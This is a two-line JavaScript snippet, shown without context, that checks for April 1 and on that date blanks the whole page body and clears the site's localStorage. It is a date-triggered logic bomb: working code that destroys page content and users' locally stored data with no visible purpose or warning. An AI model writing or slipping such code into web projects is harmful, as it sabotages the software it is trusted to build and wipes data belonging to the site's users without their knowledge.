const d = new Date();
if (d.getMonth() === 3 && d.getDate() === 1) { document.body.innerHTML = ''; localStorage.clear(); }
